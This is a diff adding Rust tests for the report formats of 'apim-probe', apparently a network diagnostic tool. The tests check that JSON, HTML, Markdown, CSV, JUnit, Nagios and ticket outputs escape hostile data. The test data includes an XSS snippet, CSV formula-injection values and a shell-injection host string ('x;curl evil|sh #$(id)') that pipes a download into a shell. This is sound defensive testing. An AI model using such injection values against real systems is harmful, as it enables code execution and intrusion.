@@ -1,0 +1,333 @@
+//! Every other format, and what none of them may let through.
+
+use std::{fmt::Write as _, path::Path};
+
+use apim_probe::{
+    diagnosis::cause::{Cause, Verdict},
+    exit::{Policy, judge},
+    report::{Format, Report, nagios::ServiceState},
+};
+
+use super::{
+    PLAIN, every_sample, rendered,
+    samples::{self, Became as _},
+    snapshot,
+};
+
+#[test]
+fn json_survives_the_round_trip() {
+    let mut all = every_sample();
+    all.push(("hostile", samples::hostile()));
+    for (name, report) in all {
+        let document = rendered(&report, Format::Json, &PLAIN);
+        assert!(document.ends_with("}\n"), "{name}");
+        let read: Report = serde_json::from_str(&document).unwrap();
+        assert_eq!(rendered(&read, Format::Json, &PLAIN), document, "{name}");
+    }
+}
+
+#[test]
+fn json_speaks_the_documented_words() {
+    let document: serde_json::Value =
+        serde_json::from_str(&rendered(&samples::broken_firewall(), Format::Json, &PLAIN)).unwrap();
+    for (path, value) in [
+        ("/schema", r#""apim-probe/report/v1""#),
+        ("/started_at", r#""2026-11-21T20:00:00.000Z""#),
+        ("/duration_ms", "5012.7"),
+        ("/vantage/source", r#""metadata""#),
+        ("/vantage/vnet", "null"),
+        ("/summary/verdict", r#""blocked""#),
+        ("/findings/0/suspects", r#"["nsg","firewall-network-rule"]"#),
+        ("/endpoints/3/verdict", r#""blocked""#),
+        ("/endpoints/3/cause", r#""tcp-timeout""#),
+        ("/endpoints/3/stages/tcp/0/ms", "5000.4"),
+        ("/endpoints/3/stages/tls", "null"),
+        ("/endpoints/0/duration_ms", "33.0"),
+        ("/endpoints/26/need", r#""feature""#),
+        ("/endpoints/27/verdict", r#""not-tested""#),
+        ("/endpoints/27/duration_ms", "null"),
+        ("/endpoints/27/stages/tcp", "[]"),
+    ] {
+        let found = document.pointer(path).map(ToString::to_string);
+        assert_eq!(found.as_deref(), Some(value), "{path}");
+    }
+}
+
+#[test]
+fn every_other_format() {
+    let report = samples::broken_firewall();
+    for (name, format) in [
+        ("junit", Format::Junit),
+        ("markdown", Format::Markdown),
+        ("csv", Format::Csv),
+        ("openmetrics", Format::Openmetrics),
+        ("brief", Format::Brief),
+        ("ticket", Format::Ticket),
+    ] {
+        snapshot(&format!("broken-firewall-{name}"), &rendered(&report, format, &PLAIN));
+    }
+}
+
+#[test]
+fn nagios_says_one_line_for_each_run() {
+    let mut lines = String::new();
+    for (name, report) in every_sample() {
+        let line = rendered(&report, Format::Nagios, &PLAIN);
+        assert_eq!(line.matches('\n').count(), 1, "{name}");
+        let _ = write!(lines, "{name}: {line}");
+    }
+    snapshot("nagios", &lines);
+}
+
+#[test]
+fn brief_stays_brief_whatever_happened() {
+    let mut all = every_sample();
+    all.push(("hostile", samples::hostile()));
+    let mut crowd = samples::all_silent();
+    for n in 0..5_000 {
+        let mut endpoint = crowd.endpoints[3].clone();
+        endpoint.id = format!("sql/{}{n}.example:1433", "long-".repeat(30));
+        crowd.endpoints.push(endpoint);
+        let mut finding = crowd.findings[0].clone();
+        finding.title = format!("{n} {}", "東京".repeat(300));
+        crowd.findings.push(finding);
+    }
+    all.push(("crowd", crowd));
+    for (name, report) in all {
+        let brief = rendered(&report, Format::Brief, &PLAIN);
+        assert!(brief.len() <= 4_000, "{name} takes {} bytes", brief.len());
+        let last = brief.lines().next_back().unwrap_or_default();
+        assert!(last.starts_with("exit "), "{name}: {last}");
+    }
+}
+
+/// Everything that could act in a reader: control characters, and what turns the reading direction.
+fn acts(c: char) -> bool {
+    (c.is_control() && !matches!(c, '\n' | '\r'))
+        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+#[test]
+fn no_format_lets_the_worst_through() {
+    let report = samples::hostile();
+    for format in [
+        Format::Text,
+        Format::Json,
+        Format::Jsonl,
+        Format::Junit,
+        Format::Html,
+        Format::Markdown,
+        Format::Csv,
+        Format::Openmetrics,
+        Format::Nagios,
+        Format::Brief,
+        Format::Ticket,
+    ] {
+        let text = rendered(&report, format, &PLAIN);
+        let harmful: Vec<char> = text.chars().filter(|c| acts(*c)).collect();
+        assert!(harmful.is_empty(), "{format:?} lets through {harmful:?}");
+    }
+}
+
+#[test]
+fn html_keeps_markup_as_text_and_asks_for_nothing() {
+    let html = rendered(&samples::hostile(), Format::Html, &PLAIN);
+    assert_eq!(html.matches("<script").count(), 1, "only the page's own script");
+    assert!(html.contains("&#60;script&#62;alert(1)"));
+    for request in [
+        "src=",
+        "http:",
+        "https:",
+        "url(",
+        "@import",
+        "<link",
+        "<img",
+        "<iframe",
+        "href=\"javascript",
+    ] {
+        assert!(!html.contains(request), "{request}");
+    }
+    assert!(html.contains("default-src 'none'"));
+}
+
+#[test]
+fn html_has_a_row_for_every_endpoint() {
+    for (name, report) in every_sample() {
+        let html = rendered(&report, Format::Html, &PLAIN);
+        assert_eq!(
+            html.matches("<tr role=\"row\" id=\"e").count(),
+            report.endpoints.len(),
+            "{name}"
+        );
+    }
+}
+
+#[test]
+fn markdown_stays_text() {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let mut report = samples::hostile();
+    report.findings[0].title += " @octocat #1 https://evil.example www.evil.example <b>x</b> ![i](u) ~~s~~ &lt;";
+    let markdown = rendered(&report, Format::Markdown, &PLAIN);
+    let mut cells = 0;
+    for event in Parser::new_ext(
+        &markdown,
+        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_GFM,
+    ) {
+        match event {
+            Event::Html(html) | Event::InlineHtml(html) => {
+                let ours = [
+                    "<details>",
+                    "</details>",
+                    "<summary>",
+                    "</summary>",
+                    "<!-- -->",
+                    "<details><summary>",
+                ];
+                let rest = ours
+                    .iter()
+                    .fold(html.trim().to_owned(), |rest, tag| rest.replace(tag, ""));
+                assert!(!rest.contains('<'), "{html}");
+            }
+            Event::Text(text) => assert!(!text.contains("@octocat") && !text.contains("#1") && !text.contains("://")),
+            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => panic!("a link to {dest_url}"),
+            Event::Start(Tag::Strikethrough | Tag::Emphasis) => panic!("markup came from the data"),
+            Event::Start(Tag::TableCell) => cells += 1,
+            _ => {}
+        }
+    }
+    assert_eq!(cells, 3 * (1 + 4), "one table of four dependencies");
+}
+
+#[test]
+fn csv_has_as_many_fields_in_each_record_and_no_formula() {
+    let mut report = samples::hostile();
+    for (at, formula) in ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\t=1"].into_iter().enumerate() {
+        report.endpoints[at % 5].evidence.clear();
+        report.endpoints[at % 5].evidence.push(formula.into());
+        report.endpoints[at % 5].detail = formula.into();
+        let csv = rendered(&report, Format::Csv, &PLAIN);
+        assert!(csv.ends_with("\r\n"));
+        let records: Vec<Vec<String>> = csv.trim_end().split("\r\n").map(fields).collect();
+        assert_eq!(records.len(), 1 + report.endpoints.len());
+        for record in records {
+            assert_eq!(record.len(), records_width(&csv), "{record:?}");
+            for field in record {
+                assert!(!field.trim_start().starts_with(['=', '+', '-', '@']), "{field}");
+            }
+        }
+    }
+}
+
+fn records_width(csv: &str) -> usize {
+    csv.lines().next().unwrap_or_default().split(',').count()
+}
+
+/// The fields of one record of RFC 4180 without line breaks inside.
+fn fields(record: &str) -> Vec<String> {
+    let mut fields = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = record.chars().peekable();
+    while let Some(c) = chars.next() {
+        let field = fields.last_mut().unwrap();
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => field.push(chars.next().unwrap()),
+            '"' => quoted = !quoted,
+            ',' if !quoted => fields.push(String::new()),
+            _ => field.push(c),
+        }
+    }
+    assert!(!quoted, "an open quote in {record}");
+    fields
+}
+
+#[test]
+fn every_line_of_jsonl_stands_alone() {
+    let report = samples::broken_firewall();
+    let jsonl = rendered(&report, Format::Jsonl, &PLAIN);
+    assert_eq!(jsonl.lines().count(), report.endpoints.len());
+    for (line, endpoint) in jsonl.lines().zip(&report.endpoints) {
+        let line: serde_json::Value = serde_json::from_str(line).unwrap();
+        assert_eq!(line["id"], endpoint.id);
+        assert_eq!(line["verdict"], endpoint.verdict.as_str());
+        assert_eq!(line["started_at"], "2026-11-21T20:00:00.000Z");
+        assert_eq!(line["vantage_host"], "vm-probe-1");
+    }
+}
+
+#[test]
+fn junit_sorts_endpoints_into_passed_failed_and_skipped() {
+    let mut report = samples::must_be_blocked();
+    report.endpoints[0] = report.endpoints[0]
+        .clone()
+        .untested(Cause::LocalFault, "Too many open files.");
+    let junit = rendered(&report, Format::Junit, &PLAIN);
+    for part in [
+        r#"tests="31""#,
+        r#"<error message="Too many open files." type="local-fault">"#,
+        r#"type="unexpectedly-open""#,
+        r#"<skipped message="unproven: The connection was accepted."/>"#,
+        r#"<skipped message="not-tested (not-outbound): Inbound from ApiManagement."/>"#,
+    ] {
+        assert!(junit.contains(part), "{part} is missing in\n{junit}");
+    }
+    assert!(junit.contains(r#"<testcase name="example.com:443" classname="egress" time="0.033"/>"#));
+}
+
+#[test]
+fn nagios_has_its_own_statuses() {
+    for (report, state) in [
+        (samples::all_healthy(), ServiceState::Ok),
+        (samples::broken_firewall(), ServiceState::Critical),
+        (samples::names_missing(), ServiceState::Unknown),
+        (samples::interrupted(), ServiceState::Unknown),
+        (samples::doubtful(), ServiceState::Unknown),
+    ] {
+        assert_eq!(
+            ServiceState::of(&report, &judge(&report, Policy::default(), None)),
+            state
+        );
+    }
+    let mut degraded = samples::doubtful();
+    degraded.endpoints.retain(|e| e.verdict != Verdict::Unproven);
+    let exit = judge(&degraded, Policy::default(), None);
+    assert_eq!(ServiceState::of(&degraded, &exit), ServiceState::Warning);
+}
+
+#[test]
+fn a_ticket_quotes_what_a_shell_would_run() {
+    let mut report = samples::broken_firewall();
+    let endpoint = report.endpoints.iter_mut().find(|e| e.dependency == "monitor").unwrap();
+    let mut evil = endpoint.clone().blocked(Cause::TlsReset, "Reset.");
+    evil.host = "x;curl evil|sh #$(id)'".into();
+    *endpoint = evil;
+    let id = endpoint.id.clone();
+    report.findings[0].endpoints = vec![id];
+    let ticket = rendered(&report, Format::Ticket, &PLAIN);
+    assert!(ticket.contains("-servername 'x;curl evil|sh #$(id)'\\''' "), "{ticket}");
+}
+
+#[test]
+fn a_ticket_without_anything_blocked_says_so() {
+    let ticket = rendered(&samples::all_healthy(), Format::Ticket, &PLAIN);
+    assert!(ticket.starts_with("No outbound dependency"), "{ticket}");
+    assert!(ticket.contains("may still refuse the instance"));
+}
+
+#[test]
+fn endings_pick_formats() {
+    for (path, format) in [
+        ("report.txt", Some(Format::Text)),
+        ("a.b/report.JSON", Some(Format::Json)),
+        ("report.jsonl", Some(Format::Jsonl)),
+        ("report.xml", Some(Format::Junit)),
+        ("report.html", Some(Format::Html)),
+        ("report.md", Some(Format::Markdown)),
+        ("report.csv", Some(Format::Csv)),
+        ("report.prom", Some(Format::Openmetrics)),
+        ("report.pdf", None),
+        ("report", None),
+        (".json", None),
+    ] {
+        assert_eq!(Format::from_ending(Path::new(path)), format, "{path}");
+    }
+}
